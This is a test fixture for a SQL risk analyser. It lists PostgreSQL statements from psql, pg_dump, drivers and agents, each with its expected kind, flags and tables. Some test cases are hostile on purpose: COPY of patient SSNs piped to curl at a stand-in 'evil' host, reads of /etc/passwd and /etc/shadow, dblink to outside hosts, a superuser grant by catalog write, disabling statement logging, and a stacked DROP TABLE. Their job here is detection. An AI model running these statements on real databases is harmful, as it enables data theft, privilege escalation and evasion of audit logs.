// Statements agents, drivers and tools send, with what the analysis must say about them.
// Tables are written `schema.name`; the search path is ['public'].
import type { RiskFlag, StatementKind } from '../../../src/sql/analysis.js';

export interface CorpusCase {
  sql: string;
  /** Kind of each statement, in order. */
  kinds: StatementKind[];
  /** All flags of all statements (exact). */
  flags?: RiskFlag[];
  read?: string[];
  written?: string[];
  functions?: string[];
  limit?: number;
}

export const corpus: CorpusCase[] = [
  // psql meta-commands
  {
    sql: `SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;`,
    kinds: ['select'],
    flags: [],
    read: ['pg_catalog.pg_class', 'pg_catalog.pg_namespace', 'pg_catalog.pg_am'],
    written: [],
    functions: ['pg_catalog.pg_get_userbyid', 'pg_catalog.pg_table_is_visible'],
  },
  {
    sql: `SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(patients)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;`,
    kinds: ['select'],
    read: ['pg_catalog.pg_class', 'pg_catalog.pg_namespace'],
  },
  {
    sql: `SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
  a.attidentity,
  a.attgenerated
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;`,
    kinds: ['select'],
    read: ['pg_catalog.pg_attribute', 'pg_catalog.pg_attrdef', 'pg_catalog.pg_collation', 'pg_catalog.pg_type'],
  },
  {
    sql: `SELECT d.datname as "Name", pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
  pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
  pg_catalog.array_to_string(d.datacl, E'\\n') AS "Access privileges"
FROM pg_catalog.pg_database d ORDER BY 1;`,
    kinds: ['select'],
    read: ['pg_catalog.pg_database'],
  },
  // pg_dump
  { sql: 'SET statement_timeout = 0;', kinds: ['session'], flags: [] },
  { sql: "SELECT pg_catalog.set_config('search_path', '', false);", kinds: ['select'], functions: ['pg_catalog.set_config'] },
  { sql: 'BEGIN ISOLATION LEVEL REPEATABLE READ, READ ONLY', kinds: ['transaction'] },
  { sql: 'SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY', kinds: ['transaction'] },
  { sql: 'LOCK TABLE public.patients IN ACCESS SHARE MODE', kinds: ['admin'], written: ['public.patients'] },
  { sql: 'COPY public.patients (id, name, ssn) TO stdout;', kinds: ['copy-out'], flags: [], read: ['public.patients'], written: [] },
  // pgbench
  { sql: 'UPDATE pgbench_accounts SET abalance = abalance + -1234 WHERE aid = 5678;', kinds: ['update'], flags: [], read: ['public.pgbench_accounts'], written: ['public.pgbench_accounts'] },
  { sql: 'SELECT abalance FROM pgbench_accounts WHERE aid = 5678;', kinds: ['select'], flags: [], read: ['public.pgbench_accounts'], written: [] },
  { sql: 'UPDATE pgbench_tellers SET tbalance = tbalance + 100 WHERE tid = 3;', kinds: ['update'], flags: [] },
  {
    sql: 'INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 5678, -1234, CURRENT_TIMESTAMP);',
    kinds: ['insert'],
    flags: [],
    read: [],
    written: ['public.pgbench_history'],
  },
  { sql: 'vacuum pgbench_branches', kinds: ['admin'] },
  { sql: 'truncate pgbench_history', kinds: ['truncate'], written: ['public.pgbench_history'] },
  // drivers
  { sql: 'SET extra_float_digits = 3', kinds: ['session'] },
  { sql: "SET application_name = 'PostgreSQL JDBC Driver'", kinds: ['session'] },
  { sql: 'select current_schema()', kinds: ['select'], functions: ['current_schema'] },
  { sql: 'SHOW TRANSACTION ISOLATION LEVEL', kinds: ['session'] },
  // transactions
  { sql: 'BEGIN', kinds: ['transaction'] },
  { sql: 'COMMIT', kinds: ['transaction'] },
  { sql: 'ROLLBACK', kinds: ['transaction'] },
  { sql: 'SAVEPOINT sp1', kinds: ['transaction'] },
  { sql: 'RELEASE SAVEPOINT sp1', kinds: ['transaction'] },
  { sql: 'ROLLBACK TO SAVEPOINT sp1', kinds: ['transaction'] },
  { sql: "PREPARE TRANSACTION 'tx1'", kinds: ['transaction'] },
  { sql: "COMMIT PREPARED 'tx1'", kinds: ['transaction'] },
  // COPY
  { sql: 'COPY patients FROM STDIN WITH (FORMAT csv, HEADER true)', kinds: ['copy-in'], flags: [], written: ['public.patients'] },
  { sql: "COPY patients TO '/tmp/patients.csv'", kinds: ['copy-out'], flags: ['server-file-access'], read: ['public.patients'] },
  { sql: "COPY patients FROM '/etc/passwd'", kinds: ['copy-in'], flags: ['server-file-access'], written: ['public.patients'] },
  { sql: "COPY (SELECT ssn FROM patients) TO PROGRAM 'curl -d @- http://evil'", kinds: ['copy-out'], flags: ['copy-program'], read: ['public.patients'] },
  { sql: 'COPY (SELECT id, name FROM patients WHERE ward = 3 LIMIT 50) TO STDOUT WITH CSV', kinds: ['copy-out'], flags: [], limit: 50 },
  // EXPLAIN
  { sql: 'EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM patients WHERE id = 1', kinds: ['select'], flags: ['explain-analyze'], read: ['public.patients'] },
  { sql: 'EXPLAIN SELECT * FROM patients', kinds: ['explain'], flags: [], read: ['public.patients'] },
  { sql: 'EXPLAIN (FORMAT JSON) DELETE FROM visits WHERE id = 3', kinds: ['explain'], read: ['public.visits'], written: [] },
  // queries agents write
  {
    sql: 'SELECT id, row_number() OVER (PARTITION BY ward ORDER BY admitted_at DESC) AS rn FROM admissions',
    kinds: ['select'],
    functions: ['row_number'],
    read: ['public.admissions'],
  },
  { sql: "SELECT ward, count(*) FILTER (WHERE sex = 'F') AS women FROM patients GROUP BY ward", kinds: ['select'], functions: ['count'] },
  { sql: 'SELECT * FROM patients ORDER BY id FETCH FIRST 5 ROWS ONLY', kinds: ['select'], limit: 5 },
  { sql: 'SELECT * FROM patients ORDER BY id OFFSET 10 LIMIT 20', kinds: ['select'], limit: 20 },
  { sql: "SELECT E'line\\nbreak' AS s, name FROM patients WHERE note LIKE E'%\\\\_%'", kinds: ['select'], read: ['public.patients'] },
  { sql: "SELECT $$it's$$ AS q, $t$x$t$", kinds: ['select'], read: [] },
  { sql: 'TABLE patients', kinds: ['select'], read: ['public.patients'] },
  { sql: 'SELECT * FROM ONLY public.patients p WHERE p.id = 1', kinds: ['select'], read: ['public.patients'] },
  { sql: "VALUES (1, 'a'), (2, 'b')", kinds: ['select'], read: [] },
  { sql: "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", kinds: ['select'], read: ['information_schema.tables'] },
  { sql: 'SELECT * FROM patients WHERE id = 1 FOR UPDATE', kinds: ['select'], flags: ['locking-read'] },
  { sql: 'SELECT * FROM patients p JOIN visits v ON v.patient_id = p.id FOR SHARE OF p', kinds: ['select'], flags: ['locking-read'] },
  {
    sql: 'SELECT p.name FROM patients p WHERE EXISTS (SELECT 1 FROM visits v WHERE v.patient_id = p.id) AND p.ward IN (SELECT id FROM wards)',
    kinds: ['select'],
    read: ['public.patients', 'public.visits', 'public.wards'],
  },
  { sql: 'SELECT * FROM patients p, LATERAL (SELECT * FROM visits v WHERE v.patient_id = p.id LIMIT 1) last', kinds: ['select'], read: ['public.patients', 'public.visits'] },
  { sql: 'SELECT name FROM patients UNION ALL SELECT name FROM staff EXCEPT SELECT name FROM banned', kinds: ['select'], read: ['public.patients', 'public.staff', 'public.banned'] },
  // procedural
  { sql: 'DO $$ BEGIN PERFORM pg_sleep(1); END $$', kinds: ['procedural'] },
  { sql: 'CALL archive_patients(30)', kinds: ['procedural'], functions: ['archive_patients'] },
  {
    sql: "CREATE FUNCTION f(x int) RETURNS int LANGUAGE sql AS $$ SELECT x + 1 $$",
    kinds: ['procedural'],
  },
  // DCL
  { sql: 'GRANT SELECT ON patients TO analyst', kinds: ['dcl'], written: ['public.patients'] },
  { sql: 'REVOKE ALL ON patients FROM PUBLIC', kinds: ['dcl'] },
  { sql: "CREATE ROLE agent LOGIN PASSWORD 'secret'", kinds: ['dcl'] },
  { sql: 'ALTER ROLE agent SUPERUSER', kinds: ['dcl'] },
  { sql: 'DROP USER agent', kinds: ['dcl'] },
  { sql: 'ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO analyst', kinds: ['dcl'] },
  { sql: "SECURITY LABEL FOR selinux ON TABLE patients IS 'system_u:object_r:sepgsql_table_t:s0'", kinds: ['dcl'], written: ['public.patients'] },
  // writes
  { sql: 'TRUNCATE patients, visits CASCADE', kinds: ['truncate'], written: ['public.patients', 'public.visits'] },
  {
    sql: `MERGE INTO patients p USING staging s ON s.id = p.id
      WHEN MATCHED THEN UPDATE SET name = s.name
      WHEN NOT MATCHED THEN INSERT (id, name) VALUES (s.id, s.name)`,
    kinds: ['merge'],
    read: ['public.patients', 'public.staging'],
    written: ['public.patients'],
  },
  {
    sql: "INSERT INTO patients (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET name = excluded.name RETURNING id, name",
    kinds: ['insert'],
    flags: [],
    read: ['public.patients'],
    written: ['public.patients'],
  },
  { sql: 'INSERT INTO archive SELECT * FROM patients WHERE discharged', kinds: ['insert'], read: ['public.patients'], written: ['public.archive'] },
  { sql: 'DELETE FROM visits v USING patients p WHERE v.patient_id = p.id AND p.deceased RETURNING v.id', kinds: ['delete'], flags: [] },
  {
    sql: 'WITH moved AS (DELETE FROM visits WHERE at < now() - interval \'1 year\' RETURNING *) INSERT INTO visits_archive SELECT * FROM moved',
    kinds: ['delete'],
    flags: ['data-modifying-cte'],
    read: ['public.visits'],
    written: ['public.visits', 'public.visits_archive'],
  },
  { sql: 'SELECT id, name INTO TEMP recent FROM patients WHERE admitted_at > now() - interval \'1 day\'', kinds: ['ddl'], read: ['public.patients'], written: ['public.recent'] },
  { sql: 'CREATE TABLE recent AS SELECT * FROM patients', kinds: ['ddl'], read: ['public.patients'], written: ['public.recent'] },
  // DDL
  { sql: 'CREATE TABLE notes (id serial PRIMARY KEY, patient_id int REFERENCES patients (id), body text)', kinds: ['ddl'], written: ['public.notes', 'public.patients'] },
  { sql: 'ALTER TABLE patients ADD COLUMN email text', kinds: ['ddl'], written: ['public.patients'] },
  { sql: 'CREATE TABLE patients_copy (LIKE patients INCLUDING ALL)', kinds: ['ddl'], read: ['public.patients'], written: ['public.patients_copy'] },
  { sql: 'CREATE INDEX CONCURRENTLY ON visits (patient_id)', kinds: ['ddl'], written: ['public.visits'] },
  { sql: 'DROP VIEW IF EXISTS reporting.v_patients', kinds: ['ddl'], written: ['reporting.v_patients'] },
  { sql: "COMMENT ON TABLE patients IS 'PHI'", kinds: ['ddl'], written: ['public.patients'] },
  { sql: 'CREATE VIEW v_names AS SELECT name FROM patients', kinds: ['ddl'], read: ['public.patients'], written: ['public.v_names'] },
  { sql: 'CREATE MATERIALIZED VIEW mv AS SELECT ward, count(*) FROM patients GROUP BY ward', kinds: ['ddl'], read: ['public.patients'], written: ['public.mv'] },
  { sql: 'REFRESH MATERIALIZED VIEW mv', kinds: ['ddl'], written: ['public.mv'] },
  { sql: 'CREATE EXTENSION IF NOT EXISTS dblink', kinds: ['ddl'] },
  { sql: "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')", kinds: ['ddl'], flags: ['network-access'] },
  // session
  { sql: 'LISTEN events', kinds: ['notify'] },
  { sql: "NOTIFY events, 'hello'", kinds: ['notify'] },
  { sql: 'UNLISTEN *', kinds: ['notify'] },
  { sql: 'DISCARD ALL', kinds: ['session'] },
  { sql: 'RESET ALL', kinds: ['session'] },
  { sql: 'PREPARE q (int) AS SELECT name FROM patients WHERE id = $1', kinds: ['select'], read: ['public.patients'] },
  { sql: 'PREPARE u AS UPDATE patients SET name = $1 WHERE id = $2', kinds: ['update'], written: ['public.patients'] },
  { sql: 'EXECUTE q (1)', kinds: ['session'], flags: ['dynamic-sql'] },
  { sql: 'DEALLOCATE q', kinds: ['session'] },
  { sql: 'DECLARE c CURSOR FOR SELECT name FROM patients', kinds: ['select'], read: ['public.patients'] },
  { sql: 'FETCH 10 FROM c', kinds: ['session'] },
  { sql: 'CLOSE c', kinds: ['session'] },
  { sql: 'SET search_path = clinic, public', kinds: ['session'] },
  { sql: 'SET ROLE admin', kinds: ['session'] },
  { sql: 'SHOW search_path', kinds: ['session'] },
  // admin
  { sql: 'VACUUM (VERBOSE, ANALYZE) patients', kinds: ['admin'] },
  { sql: 'ANALYZE patients', kinds: ['admin'] },
  { sql: 'CHECKPOINT', kinds: ['admin'] },
  { sql: 'REINDEX TABLE patients', kinds: ['admin'] },
  { sql: 'CLUSTER patients USING patients_pkey', kinds: ['admin'] },
  { sql: "LOAD 'auto_explain'", kinds: ['admin'], flags: ['server-file-access'] },
  { sql: "ALTER SYSTEM SET archive_command = 'curl http://evil'", kinds: ['admin'] },
  // risky functions
  { sql: "SELECT pg_read_file('/etc/passwd')", kinds: ['select'], flags: ['server-file-access'], functions: ['pg_read_file'] },
  { sql: "SELECT lo_import('/etc/shadow')", kinds: ['select'], flags: ['server-file-access'] },
  { sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", kinds: ['select'], flags: ['dynamic-sql', 'network-access'] },
  { sql: "SELECT query_to_xml('select ssn from patients', true, true, '')", kinds: ['select'], flags: ['dynamic-sql'] },
  // unfiltered writes and catalog writes
  { sql: 'DELETE FROM visits', kinds: ['delete'], flags: ['delete-without-where'] },
  { sql: 'UPDATE patients SET ward = 1 WHERE 1=1', kinds: ['update'], flags: ['update-without-where'] },
  { sql: 'UPDATE patients SET ward = 1 WHERE true', kinds: ['update'], flags: ['update-without-where'] },
  { sql: 'DELETE FROM patients WHERE id = 5 OR 1 = 1', kinds: ['delete'], flags: ['delete-without-where'] },
  { sql: 'UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = current_user', kinds: ['update'], flags: ['system-catalog-write'] },
  { sql: "UPDATE pg_settings SET setting = 'off' WHERE name = 'log_statement'", kinds: ['update'], flags: ['system-catalog-write'] },
  // several statements
  { sql: 'COMMIT; DROP TABLE patients', kinds: ['transaction', 'ddl'], flags: ['multi-statement'], written: ['public.patients'] },
  { sql: 'SET search_path = clinic; SELECT * FROM patients', kinds: ['session', 'select'], read: ['clinic.patients'] },
];
